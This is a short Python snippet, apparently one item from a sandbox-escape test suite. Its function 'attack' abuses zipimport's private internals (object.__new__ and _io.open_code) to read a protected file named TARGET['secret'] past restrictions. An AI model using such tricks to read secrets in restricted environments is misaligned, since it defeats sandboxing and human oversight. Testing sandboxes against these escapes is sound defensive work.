"""Has the importer of archives read a file."""

import zipimport


def attack(A):
    importer = object.__new__(zipimport.zipimporter)
    importer.archive, importer._files = TARGET["secret"], {}
    with zipimport._io.open_code(TARGET["secret"]) as file:
        return file.read()
